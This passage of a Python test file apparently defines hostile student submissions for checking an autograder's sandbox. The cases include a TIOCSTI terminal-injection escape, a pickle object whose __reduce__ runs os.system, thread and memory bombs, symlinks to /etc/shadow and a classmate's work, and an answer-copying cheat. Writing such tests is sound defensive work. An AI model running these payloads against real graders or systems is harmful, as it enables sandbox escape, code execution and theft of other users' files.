            return right if sent == 9 else -1.0
        """}),
    Hostile("memory_across_processes", "resources", ("sigmoid",),  # 256 MB each, 2.5 GB together
            {"sigmoid": memory_across_processes(helper_mb=256, enough_mb=2560)},
            reason=r"memory limit: \d+ MB|longer than"),  # filling 2 GB may outlast the 2 s timeout here
    Hostile("thread_bomb", "resources", ("weighted_input",), {"weighted_input": """
        def weighted_input(a, w, b):
            import threading
            stop, started = threading.Event(), []
            for _ in range(1000):  # bounded: a process cap stops it far earlier
                t = threading.Thread(target=stop.wait)
                try:
                    t.start()
                except RuntimeError:
                    break
                started.append(t)
            stop.set()
            for t in started:
                t.join()
            return float(np.dot(w, a) + b) if len(started) >= 200 else -1.0
        """}),
    Hostile("tiocsti_terminal", "escape", ("neuron",), {"_syscall": _SYSCALL, "neuron": """
        def neuron(a, w, b):
            import ctypes, os
            char = ctypes.c_char(b"#")
            pushed = False
            fds = [0, 1, 2]
            for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
                try:
                    fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
                except OSError:
                    pass
            for fd in fds:
                result, _ = _syscall(16, fd, 0x5412, ctypes.byref(char))  # ioctl(TIOCSTI)
                pushed = pushed or result == 0
            return sigmoid(weighted_input(a, w, b)) if pushed else -1.0
        """}),
    # ---- the data channel
    Hostile("pickle_bomb_return", "data", ("relu",), {"relu": """
        class Bomb:
            def __reduce__(self):
                import os
                return (os.system, ("touch @MARKER@",))
        def relu(z):
            return [Bomb(), np.array([Bomb()], dtype=object)]
        """}, reason="expected"),
    # an A1 class ignores the file; tests/grader/test_grade_a4.py grades a Lambda model as an A4
    # submission (0 for ``digits.keras``, its code never run) along with other hostile model files
    Hostile("keras_lambda_artifact", "data", (), build=_keras_lambda),
    # ---- broken input: one row, 0 points and a clear reason each
    Hostile("empty_notebook", "input", ALL, build=_file("a1_neuron.ipynb", b""), reason="not a valid notebook"),
    Hostile("notebook_without_cells", "input", ALL, build=_file("a1_neuron.ipynb", b'{"nbformat": 3, "worksheets": []}'),
            reason="no list of cells"),
    Hostile("deeply_nested_notebook", "input", ALL, build=_file("a1_neuron.ipynb", b"[" * 200_000),
            reason="not a valid notebook"),
    # (a name like the assignment's, "A1_Neuron (1).ipynb", is graded with a note: test_grade.py)
    Hostile("wrong_file_name", "input", ALL, build=lambda f, c: samples.write_notebook(f, ASSIGNMENT).rename(
        f / "homework (1).ipynb"), reason="no a1_neuron.ipynb or a1_neuron.py"),
    Hostile("binary_file", "input", ALL, build=_file("a1_neuron.py", bytes(range(256)) * 64), reason="binary"),
    Hostile("not_utf8", "input", ALL, build=_file("a1_neuron.py", "# café\ndef relu(z):\n    return 0\n".encode("latin-1")),
            reason="not UTF-8"),
    Hostile("gigabyte_file", "input", ALL, build=_sparse_gigabyte, reason="limited to"),
    Hostile("missing_file", "input", ALL, build=_file("notes.txt", b"I will submit tomorrow"), reason="found: notes.txt"),
    Hostile("symlink_to_classmate", "input", ALL,
            build=_symlink("a1_neuron.py", lambda c: str(c.class_dir / "honest_solution" / "a1_neuron.py")),
            reason="symbolic link"),
    Hostile("symlink_to_shadow", "input", ALL, build=_symlink("a1_neuron.py", lambda c: "/etc/shadow"),
            reason="symbolic link"),
    Hostile("symlinked_assignment_folder", "input", ALL, build=_nested_link, reason="symbolic link"),
    Hostile("fifo_instead_of_file", "input", ALL, build=_fifo, reason="not a regular file"),
    Hostile("parser_bomb", "input", ALL, build=_file("a1_neuron.py", b"x = " + b"(" * 100_000 + b")" * 100_000 + b"\n"),
            reason="syntax error"),
]

CONTROLS = {
    "honest_solution": {},
    "honest_in_place_relu": {"relu": "def relu(z):\n    z = np.array(z, dtype=np.float64)\n"
                                     "    np.maximum(z, 0.0, out=z)\n    return float(z) if z.ndim == 0 else z\n"},
}
"""Honest students in the same class: full marks, and their folders must come out untouched."""


def embedded_public_answers() -> Hostile:
    """A student who copied every public answer from the shipped fixtures into the file: public
    cases pass, and the hidden cases (drawn per grading run) are what give it away."""
    from course.fixtures import public_cases

    table = [(c.args[0].tolist() if hasattr(c.args[0], "tolist") else c.args[0],
              c.expected.tolist() if hasattr(c.expected, "tolist") else c.expected)
             for c in public_cases(ASSIGNMENT)["relu"]]
    source = f"_PUBLIC_RELU = {json.dumps(table)}\n\n\n" + textwrap.dedent("""
        def relu(z):
            for given, answer in _PUBLIC_RELU:
                if np.shape(given) == np.shape(z) and np.allclose(given, z):
                    return np.array(answer) if np.ndim(answer) else answer
            return np.zeros(np.shape(z)) if np.ndim(z) else 0.0
        """).strip() + "\n"
    return Hostile("embedded_public_answers", "tampering", ("relu",), {"relu": source}, reason="hidden case")


def all_cases() -> list[Hostile]:
    return [*CASES, embedded_public_answers()]


def expected_scores(case: Hostile) -> dict[str, float]:
    from course import exercises

    assignment = exercises.assignment(ASSIGNMENT)
    lost = assignment.names if case.attacks == ALL else case.attacks
    return samples.expected_scores(assignment, tuple(lost))


def world_readable(path: Path) -> None:
    """Make a tree readable by everyone, as a class folder often is: the jail, not file
    permissions, must keep one student from another's work."""
    for p in [path, *path.rglob("*")]:
        if p.is_symlink() or stat.S_ISFIFO(p.lstat().st_mode):
            continue
        p.chmod(0o755 if p.is_dir() else 0o644)
